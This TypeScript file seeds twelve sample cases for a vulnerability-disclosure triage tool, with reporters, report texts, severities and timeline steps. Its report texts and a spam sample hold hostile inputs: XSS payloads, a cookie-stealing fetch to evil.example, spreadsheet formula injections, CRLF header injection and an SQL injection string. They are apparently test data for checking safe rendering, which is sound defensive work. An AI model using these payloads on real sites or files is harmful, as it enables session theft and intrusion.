// Over 250 lines with a reason: most of it is the twelve demo cases written out as data; the code that turns them
// into cases is the last sixty lines.
import { timeZoneOf } from '../calendar'
import type { CalendarSettings } from '../calendar/spec'
import type { Actor, Case, MailSource, Reporter, Severity, TimelineEvent } from '../cases/case'
import { milestoneOfStatus, statusAfterMilestone, type CaseStatus, type ClosingReason } from '../cases/lifecycle'
import { scoreCvss } from '../cases/severity'
import type { Milestone } from '../policies/policy'
import { dateInZone, isoInZone } from '../time'

export interface SampleContext {
  now: Date
  newId: () => string
  /** The team calendar and policy at the time the samples are loaded: pinned on every sample like on a new case. */
  calendar: CalendarSettings
  policyId: string
  actor: Actor
}

/** A demo case before the store gives it a key. */
export type SampleCase = Omit<Case, 'key'>

type Step = { hours: number; comment?: string } & (
  | { to: CaseStatus; closingReason?: ClosingReason; duplicateOfTitle?: string }
  | { milestone: Milestone }
  | { note: string }
  /** The reporter's credit (the spec's `credit`) is chosen: that confirms it. */
  | { credit: true }
  /** An expected resolution date told to the reporter: this many days after receipt, in the team's zone. */
  | { promiseDays: number }
)

interface SampleSpec {
  title: string
  reporter: Reporter
  /** How long before `now` the report arrived, in hours: the deadlines of the samples depend on it. */
  receivedHoursAgo: number
  timeZone: string
  channel: Case['channel']
  asset: string
  reportText: string
  severity: Severity
  tags: string[]
  credit?: Partial<Case['credit']>
  reward?: Partial<Case['reward']>
  /** The email the report came in as. */
  mail?: MailSource
  /** Hours after receipt, in order. */
  steps: Step[]
}

const hour = 3_600_000

const cvss = (vector: string): Severity => ({ kind: 'cvss', ...scoreCvss(vector) })

const hostileText = [
  'Hello security team,',
  '',
  'Your site is VERY vulnerable!!! Paste this in the search box: <script>alert(1)</script>',
  '<img src=x onerror="fetch(\'https://evil.example/steal?c=\'+document.cookie)">',
  'For your spreadsheet: =HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
  '+cmd|\' /C calc\'!A0',
  'Reply to: attacker@evil.example\r\nBcc: everyone@example.com\r\nSubject: you have been hacked',
  '',
  'Pay 2 BTC to see the full report. [link](javascript:alert(document.domain))',
].join('\n')

const specs: SampleSpec[] = [
  {
    title: 'Stored XSS in support ticket subject line',
    reporter: { name: 'Priya Raman', email: 'priya.raman@example.org', handle: 'priyasec', language: 'en' },
    receivedHoursAgo: 20,
    timeZone: 'Asia/Kolkata',
    channel: 'web_form',
    asset: 'support.example.com',
    reportText:
      'The subject of a support ticket is rendered without escaping in the agent dashboard.\n\nSteps:\n1. Create a ticket with subject "><svg onload=alert(document.domain)>\n2. Log in as an agent and open the ticket queue.\n3. The payload runs in the agent session.\n\nImpact: an attacker can act as any support agent.',
    severity: { kind: 'unrated' },
    tags: ['xss', 'support'],
    steps: [],
  },
  {
    title: 'SPF record missing on mail.example-shop.com',
    reporter: { name: 'Tomasz Nowak', email: 'tnowak@example.net', language: 'en' },
    receivedHoursAgo: 6 * 24 + 3,
    timeZone: 'Europe/Warsaw',
    channel: 'email',
    asset: 'example-shop.com (DNS)',
    reportText:
      'The domain example-shop.com has no SPF TXT record and DMARC is set to p=none, so anyone can send mail as @example-shop.com.\n\n$ dig TXT example-shop.com +short\n"google-site-verification=..."\n\nPlease add v=spf1 ... -all.',
    severity: { kind: 'rating', rating: 'low' },
    tags: ['email', 'dns'],
    steps: [],
  },
  {
    title: 'IDOR in invoice API exposes other customers’ invoices',
    reporter: { name: 'Lena Fischer', email: 'lena@fischer-security.example', handle: 'lfischer', language: 'en' },
    receivedHoursAgo: 4 * 24 + 5,
    timeZone: 'Europe/Berlin',
    channel: 'email',
    asset: 'api.example.com /v2/invoices',
    reportText:
      'GET /v2/invoices/{id} returns any invoice when the id is changed, without checking the customer of the session.\n\nRequest:\nGET /v2/invoices/100231 HTTP/1.1\nAuthorization: Bearer <my token>\n\nResponse contains name, address and VAT number of another customer. Ids are sequential, so all invoices can be enumerated.',
    severity: cvss('CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:N'),
    tags: ['idor', 'api'],
    mail: {
      messageId: '<3f9c2a71-5d0e-4b8e-9a41-idor@fischer-security.example>',
      references: [],
      encrypted: false,
      attachments: [
        {
          name: 'invoice-100231-response.har',
          type: 'application/json',
          size: 48_213,
          sha256: '9b1c6f0e4a7d2b85c3e1f09a6d4b7c2e8f5a1d3b6c9e0f2a4b7d1c5e8f0a3b6d',
        },
      ],
    },
    steps: [{ hours: 18, milestone: 'acknowledgement_sent', comment: 'Thanked, asked for patience' }],
  },
  {
    title: 'Open redirect on login page via returnUrl',
    reporter: { name: 'Carlos Mendes', email: 'carlos.mendes@example.com', language: 'en' },
    receivedHoursAgo: 9 * 24,
    timeZone: 'America/Sao_Paulo',
    channel: 'web_form',
    asset: 'login.example.com',
    reportText:
      'https://login.example.com/?returnUrl=//evil.example redirects to evil.example after login. Could be used for phishing.',
    severity: { kind: 'rating', rating: 'medium' },
    tags: ['redirect'],
    steps: [
      { hours: 20, milestone: 'acknowledgement_sent' },
      { hours: 50, to: 'needs_info', comment: 'Asked which browser and whether the redirect happens without a login' },
      { hours: 50, note: 'Could not reproduce with Firefox 128; the allow-list seems to block //evil.example.' },
    ],
  },
  {
    title: 'SQL injection in product search filter',
    reporter: { name: 'Aiko Tanaka', email: 'aiko.t@example.jp', handle: 'aikot', language: 'en' },
    receivedHoursAgo: 12 * 24 + 2,
    timeZone: 'Asia/Tokyo',
    channel: 'email',
    asset: 'shop.example.com /search',
    reportText:
      "The 'sort' parameter of /search is concatenated into the ORDER BY clause.\n\n/search?q=shoe&sort=price,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)\n\nTime-based payloads confirm it; sqlmap lists the tables. I stopped there and did not read data.",
    severity: cvss('CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N'),
    tags: ['sqli', 'shop'],
    steps: [
      { hours: 6, milestone: 'acknowledgement_sent' },
      { hours: 30, to: 'evaluating', comment: 'Reproduced on staging' },
    ],
  },
  {
    title: 'Account takeover through password reset token reuse',
    reporter: { name: 'Sam O’Connor', email: 'sam@oconnor.example', language: 'en' },
    receivedHoursAgo: 30 * 24,
    timeZone: 'Europe/Dublin',
    channel: 'email',
    asset: 'accounts.example.com',
    reportText:
      'Password reset tokens stay valid after use and after a newer token is issued. A token leaked once (e.g. via Referer to a third-party script on the reset page) allows resetting the password again at any later time.',
    severity: cvss('CVSS:4.0/AV:N/AC:L/AT:P/PR:N/UI:P/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N'),
    tags: ['auth'],
    credit: { choice: 'named', displayName: 'Sam O’Connor' },
    steps: [
      { hours: 4, milestone: 'acknowledgement_sent' },
      { hours: 28, to: 'evaluating' },
      { hours: 96, to: 'accepted', comment: 'Confirmed; fix planned for release 24.3' },
      { hours: 96, promiseDays: 21 },
      { hours: 97, credit: true },
      { hours: 20 * 24, milestone: 'progress_update_sent', comment: 'Fix in QA' },
      // Release 24.3 slipped: the progress update renegotiated the date.
      { hours: 20 * 24, promiseDays: 40 },
    ],
  },
  {
    title: 'Subdomain takeover of status.example.com (dangling CNAME)',
    reporter: { name: 'Noor Haddad', email: 'noor.haddad@example.ae', handle: 'noorh', language: 'en' },
    receivedHoursAgo: 45 * 24,
    timeZone: 'Asia/Dubai',
    channel: 'web_form',
    asset: 'status.example.com',
    reportText:
      'status.example.com is a CNAME to example-status.hosted-pages.example, which is unclaimed. I claimed it and placed a harmless proof page at /noorh.html; it is removed now.',
    severity: cvss('CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N'),
    tags: ['dns', 'takeover'],
    credit: { choice: 'handle', displayName: 'noorh' },
    reward: { status: 'approved', amount: 250, currency: 'EUR' },
    steps: [
      { hours: 3, milestone: 'acknowledgement_sent' },
      { hours: 26, to: 'evaluating' },
      { hours: 50, to: 'accepted' },
      { hours: 74, to: 'resolved', comment: 'CNAME removed' },
      { hours: 80, credit: true },
      { hours: 30 * 24, milestone: 'reward_decided' },
    ],
  },
  {
    title: 'Stored XSS in markdown preview of comments',
    reporter: { name: 'Maria Jansen', email: 'maria@jansen.example', handle: 'mjansen', language: 'nl' },
    receivedHoursAgo: 120 * 24,
    timeZone: 'Europe/Amsterdam',
    channel: 'email',
    asset: 'community.example.com',
    reportText:
      'The markdown renderer allows [x](javascript:alert(1)) links in comments. Anyone who clicks the link in a comment runs script in the forum origin.',
    severity: cvss('CVSS:3.1/AV:N/AC:L/PR:L/UI:R/S:C/C:L/I:L/A:N'),
    tags: ['xss'],
    credit: { choice: 'named', displayName: 'Maria Jansen', url: 'https://jansen.example/' },
    reward: { status: 'paid', amount: 500, currency: 'EUR', swag: true },
    steps: [
      { hours: 2, milestone: 'acknowledgement_sent' },
      { hours: 24, to: 'evaluating' },
      { hours: 48, to: 'accepted' },
      { hours: 20 * 24, to: 'resolved' },
      { hours: 40 * 24, milestone: 'publication_consulted' },
      { hours: 45 * 24, credit: true },
      { hours: 50 * 24, to: 'published', comment: 'Advisory EX-2025-004' },
      { hours: 52 * 24, milestone: 'reward_decided' },
    ],
  },
  {
    title: 'Cross-site scripting in comment preview',
    reporter: { name: 'Jonas Berg', email: 'jonas.berg@example.se', language: 'en' },
    receivedHoursAgo: 110 * 24,
    timeZone: 'Europe/Stockholm',
    channel: 'web_form',
    asset: 'community.example.com',
    reportText: 'javascript: links in comments execute when clicked. PoC: [click me](javascript:alert(document.cookie))',
    severity: { kind: 'unrated' },
    tags: ['xss'],
    steps: [
      { hours: 5, milestone: 'acknowledgement_sent' },
      {
        hours: 8,
        to: 'closed',
        closingReason: 'duplicate',
        duplicateOfTitle: 'Stored XSS in markdown preview of comments',
        comment: 'Already reported ten days earlier',
      },
    ],
  },
  {
    title: '=HYPERLINK("https://evil.example/?"&A1,"CRITICAL bug - click")',
    reporter: {
      name: 'Security Researcher\r\nBcc: everyone@example.com',
      email: 'bounty.hunter@evil.example',
      handle: '<script>alert(1)</script>',
      language: 'en',
    },
    receivedHoursAgo: 15 * 24,
    timeZone: 'UTC',
    channel: 'email',
    asset: '<img src=x onerror=alert(1)>',
    reportText: hostileText,
    severity: { kind: 'unrated' },
    tags: ['<b>spam</b>'],
    steps: [{ hours: 1, to: 'closed', closingReason: 'spam', comment: 'Extortion attempt, no real finding' }],
  },
  {
    title: 'Clickjacking on the marketing landing page',
    reporter: { name: 'Ahmed Karim', email: 'ahmed.karim@example.eg', language: 'en' },
    receivedHoursAgo: 20 * 24,
    timeZone: 'Africa/Cairo',
    channel: 'email',
    asset: 'www.example.com',
    reportText:
      'www.example.com can be framed: there is no X-Frame-Options or frame-ancestors header. The page has no forms or logged-in actions.',
    severity: { kind: 'rating', rating: 'none' },
    tags: ['headers'],
    steps: [
      { hours: 20, milestone: 'acknowledgement_sent' },
      { hours: 40, to: 'closed', closingReason: 'out_of_scope', comment: 'Static page without state-changing actions' },
      { hours: 40, milestone: 'evaluation_sent' },
    ],
  },
  {
    title: 'Source maps expose internal API keys in the web app bundle',
    reporter: { name: 'Emily Clarke', email: 'emily.clarke@example.co.uk', handle: 'eclarke', language: 'en' },
    receivedHoursAgo: 14 * 24,
    timeZone: 'Europe/London',
    channel: 'web_form',
    asset: 'app.example.com',
    reportText:
      'app.example.com serves main.js.map, which contains the original sources including a hard-coded MAPS_API_KEY and the URL of an internal admin API (admin-int.example.com).',
    severity: { kind: 'rating', rating: 'medium' },
    tags: ['secrets', 'web'],
    steps: [
      { hours: 30, milestone: 'acknowledgement_sent' },
      { hours: 60, note: 'Key is restricted to our domains; checking whether admin-int is reachable from outside.' },
    ],
  },
]

/**
 * The demo cases, dated relative to `now` so that their deadlines are live: some overdue, some due soon,
 * and every status of the lifecycle appears.
 */
export function sampleCases(ctx: SampleContext): SampleCase[] {
  const ids = new Map(specs.map((spec) => [spec.title, ctx.newId()]))
  // Oldest first, so that sample keys follow the order the reports arrived in.
  const oldestFirst = [...specs].sort((a, b) => b.receivedHoursAgo - a.receivedHoursAgo)
  return oldestFirst.map((spec) => {
    const received = new Date(ctx.now.getTime() - spec.receivedHoursAgo * hour)
    const at = (hours: number) => isoInZone(received.getTime() + hours * hour, spec.timeZone)
    const base = { by: ctx.actor }
    let status: CaseStatus = 'received'
    let closingReason: ClosingReason | undefined
    let duplicateOf: string | undefined
    const timeline: TimelineEvent[] = [{ ...base, id: ctx.newId(), at: at(0.2), type: 'created' }]
    const recorded = new Set<Milestone>()
    // The same rules as the commands: a status that says something happened records it, and the other way round.
    const milestoneEvent = (milestone: Milestone, on: string, comment?: string): TimelineEvent => {
      recorded.add(milestone)
      return { ...base, id: ctx.newId(), at: on, type: 'milestone', milestone, on, comment }
    }
    for (const step of spec.steps) {
      const event = { ...base, id: ctx.newId(), at: at(step.hours) }
      if ('to' in step) {
        duplicateOf = step.duplicateOfTitle === undefined ? undefined : ids.get(step.duplicateOfTitle)
        const milestone = milestoneOfStatus(step.to)
        const alongside = milestone && !recorded.has(milestone) ? milestoneEvent(milestone, event.at) : undefined
        timeline.push({
          ...event,
          type: 'status_changed',
          from: status,
          to: step.to,
          closingReason: step.closingReason,
          duplicateOf,
          comment: step.comment,
          milestoneEvent: alongside?.id,
        })
        if (alongside) timeline.push(alongside)
        status = step.to
        closingReason = step.closingReason
      } else if ('milestone' in step) {
        timeline.push(milestoneEvent(step.milestone, event.at, step.comment))
        const next = statusAfterMilestone(status, step.milestone)
        if (next) {
          timeline.push({ ...base, id: ctx.newId(), at: event.at, type: 'status_changed', from: status, to: next })
          status = next
        }
      } else if ('promiseDays' in step) {
        const date = dateInZone(received.getTime() + step.promiseDays * 24 * hour, timeZoneOf(ctx.calendar.spec))
        timeline.push({ ...event, type: 'resolution_promised', date })
      } else if ('credit' in step) {
        const { choice = 'not_asked', displayName } = spec.credit ?? {}
        timeline.push({ ...event, type: 'field_changed', field: 'credit', from: { choice: 'not_asked' }, to: { choice, displayName } })
      } else {
        timeline.push({ ...event, type: 'note', text: step.note })
      }
    }
    const last = timeline[timeline.length - 1]!.at
    return {
      id: ids.get(spec.title)!,
      title: spec.title,
      reporter: spec.reporter,
      received: { at: at(0), timeZone: spec.timeZone },
      channel: spec.channel,
      asset: spec.asset,
      reportText: spec.reportText,
      severity: spec.severity,
      tags: spec.tags,
      ...(spec.mail ? { mail: spec.mail } : {}),
      policyId: ctx.policyId,
      status,
      closingReason,
      duplicateOf,
      credit: { choice: 'not_asked', cveCreditType: 'finder', ...spec.credit },
      reward: { currency: 'EUR', swag: false, status: 'none', ...spec.reward },
      calendar: ctx.calendar,
      timeline,
      sample: true,
      revision: timeline.length,
      createdAt: timeline[0]!.at,
      updatedAt: last,
    }
  })
}
